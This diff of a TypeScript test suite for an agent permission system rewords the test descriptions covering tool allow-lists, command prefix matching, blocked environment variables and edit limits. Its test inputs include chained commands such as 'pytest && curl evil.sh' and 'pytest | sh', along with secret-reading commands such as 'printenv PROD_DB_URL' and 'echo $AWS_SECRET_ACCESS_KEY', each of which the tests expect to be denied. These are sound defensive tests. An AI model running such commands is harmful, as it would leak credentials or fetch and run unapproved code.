@@ -55,26 +55,26 @@ const rows: readonly Row[] = [
     calls: [[tool, { file_path: 'a.py', pattern: 'x' }, null] as const],
   })),
   ...['Edit', 'Write', 'Bash', 'WebFetch', 'mcp__github__create_issue'].map((tool) => ({
-    ...{ ...tools, state: planning, check: `${tool} is not listed and denied` },
+    ...{ ...tools, state: planning, check: `${tool} is neither listed nor allowed` },
     quote: 'Controls which MCP tools the agent can call.',
     calls: [[tool, { file_path: 'a.py', command: 'ls > x' }, 'TOOL_NOT_ALLOWED'] as const],
   })),
   {
     ...{ ...tools, quote: 'Tool names must match exactly as the agent knows them' },
-    check: 'a part of a name allows nothing',
+    check: 'a partial name allows no tool',
     state: { allowed_tools: ['Rea', 'Read*', 'ReadFile'] },
     calls: [['Read', { file_path: 'a.py' }, 'TOOL_NOT_ALLOWED']],
   },
   {
     ...{ ...tools, quote: 'Tool names must match exactly as the agent knows them' },
-    check: 'the name that another host has for the same tool allows it, too',
+    check: "another host's name for the same tool also allows it",
     differs: 'tool-spelling',
     state: { allowed_tools: ['read'] },
     calls: [['Read', { file_path: 'a.py' }, null]],
   },
   {
     ...{ ...tools, quote: 'If allowed_tools is omitted, all tools pass through' },
-    check: 'every tool is allowed',
+    check: 'without allowed_tools, every tool is allowed',
     state: {},
     calls: [
       ['Edit', edit(3), null],
@@ -84,7 +84,7 @@ const rows: readonly Row[] = [
   },
   {
     ...{ ...tools, quote: 'If allowed_tools is omitted, all tools pass through' },
-    check: 'null is the same as omitting it',
+    check: 'null means the same as omitting allowed_tools',
     state: { allowed_tools: null },
     calls: [['Edit', edit(3), null]],
   },
@@ -97,7 +97,7 @@ const rows: readonly Row[] = [
   },
   {
     ...{ ...tools, quote: 'own MCP tools (transition, get_state, etc.) are always available' },
-    check: 'they are allowed in a state that allows nothing',
+    check: 'these tools work even in a state that allows no tool',
     state: { allowed_tools: [] },
     calls: [
       ['mcp__pawl__statewright_transition', { event: 'NEXT' }, null],
@@ -118,13 +118,13 @@ const rows: readonly Row[] = [
   ),
   {
     ...{ ...commands, quote: 'Values are prefix-matched.', differs: 'command-words' },
-    check: 'a prefix ends at the end of a word: `pytestx` is denied',
+    check: 'a prefix matches whole words only: `pytestx` is denied',
     calls: [bash('pytestx', 'COMMAND_NOT_ALLOWED')],
   },
   ...['pytest && curl evil.sh', 'pytest; git push', 'pytest | sh', 'pytest $(git push)'].map(
     (command) => ({
       ...{ ...commands, quote: 'Values are prefix-matched.', differs: 'command-parts' },
-      check: `every command of a line has to be listed: \`${command}\` is denied`,
+      check: `every command in a line must be listed: \`${command}\` is denied`,
       calls: [bash(command, 'COMMAND_NOT_ALLOWED')],
     }),
   ),
@@ -133,7 +133,7 @@ const rows: readonly Row[] = [
       ...commands,
       quote: 'Restricts which shell commands the agent can run via the Bash tool.',
     },
-    check: 'other tools are not restricted',
+    check: 'tools other than Bash are not restricted',
     calls: [['Read', { file_path: 'a.py' }, null]],
   },
   ...['echo $PROD_DB_URL', `curl "\${PROD_DB_URL}/api"`, 'printenv PROD_DB_URL', 'env'].map(
@@ -143,12 +143,16 @@ const rows: readonly Row[] = [
     }),
   ),
   {
-    ...{ ...env, quote: prevents, check: 'both listed variables are denied, others are not' },
+    ...{
+      ...env,
+      quote: prevents,
+      check: 'each listed variable is denied; other variables are not',
+    },
     calls: [bash('echo $AWS_SECRET_ACCESS_KEY', 'ENV_BLOCKED'), bash('echo $HOME', null)],
   },
   {
     ...{ ...env, state: denyEnv, quote: 'blocked_env | string[] | Alias: deny_env' },
-    check: 'deny_env denies as well',
+    check: 'deny_env denies its variables, too',
     calls: [bash('echo $PROD_DB_URL', 'ENV_BLOCKED'), bash('echo $HOME', null)],
   },
 ]
@@ -177,7 +181,7 @@ claim(
   {
     section: 'max_iterations',
     quote: 'When the limit is reached, the agent is forced to make a transition decision',
-    check: 'the call after the limit is denied, a transition is accepted and resets the count',
+    check: 'the call after the limit is denied; a transition is accepted and resets the count',
     differs: 'iterations-deny',
   },
   async () => {
@@ -218,12 +222,12 @@ for (const [check, tool, input, code] of [
   ['an edit of 20 lines is allowed', 'Edit', edit(20), null],
   ['an edit of 21 lines is denied', 'Edit', edit(21), 'EDIT_TOO_LARGE'],
   [
-    ...['a file of 21 lines is denied', 'Write'],
+    ...['writing a file of 21 lines is denied', 'Write'],
     { file_path: 'n.py', content: 'x\n'.repeat(21) },
     'EDIT_TOO_LARGE',
   ],
   [
-    ...['a file of 20 lines is allowed', 'Write'],
+    ...['writing a file of 20 lines is allowed', 'Write'],
     { file_path: 'n.py', content: 'x\n'.repeat(20) },
     null,
   ],
@@ -244,7 +248,7 @@ claim(
   {
     section: 'max_edit_lines and max_files_per_state',
     quote: scope,
-    check: 'a fourth file is denied, one that was edited before is not, and a transition resets it',
+    check: 'a fourth file is denied, a file edited before is not; a transition resets the count',
   },
   async () => {
     const on = { AGAIN: 'work', NEXT: 'end' }
@@ -263,7 +267,7 @@ claim(
   {
     section: 'context_budget_bytes',
     quote: 'Caps the total bytes of tool results the agent can accumulate in a state.',
-    check: 'when the results have that many bytes, the next call is denied',
+    check: 'once the results reach this size, the next call is denied',
     differs: 'budget-denies',
   },
   async () => {
@@ -281,7 +285,7 @@ for (const field of ['env_overrides', 'env']) {
     {
       section: 'blocked_env and env_overrides',
       quote: 'env_overrides (alias env) injects overrides',
-      check: `${field}: variables are set for the command itself, and their names are told`,
+      check: `${field}: variables are set for the command itself; the agent sees their names`,
       differs: 'env-values',
     },
     async () => {
@@ -326,7 +330,7 @@ claim(
   {
     section: 'State Definition Fields',
     quote: 'on | object | {} | Transition events keyed by event name',
-    check: 'a state without on accepts no event, and is remarked on as a dead end',
+    check: 'a state without on accepts no events and gets a dead-end warning',
   },
   async () => {
     const definition = {
@@ -343,7 +347,7 @@ for (const door of workflowDoors) {
     {
       section: 'instructions',
       quote: "Injected into the agent's context on every turn while in this state.",
-      check: `what the run says begins with them, here and after the next call (${door})`,
+      check: `the text for the agent begins with them, both here and after a call (${door})`,
     },
     async () => {
       const instructions = 'Apply the minimal fix. Do not refactor unrelated code.'
@@ -360,7 +364,7 @@ for (const door of ['stdio', 'http'] as const) {
     {
       section: 'State Definition Fields',
       quote: 'allowed_commands, blocked_env, env_overrides, max_edit_lines, max_files_per_state …',
-      check: `the state that is told has every rule of the state (${door})`,
+      check: `the reported state contains every rule of the state (${door})`,
     },
     async () => {
       const state = {
@@ -425,7 +429,7 @@ for (const door of workflowDoors) {
     {
       section: 'safe_next',
       quote: 'Without safe_next, the transition is rejected.',
-      check: `an unknown event is rejected, and the events are named (${door})`,
+      check: `an unknown event is rejected, and the error lists the events (${door})`,
     },
     async () => {
       const run = await workflows.open(door, withState({}))
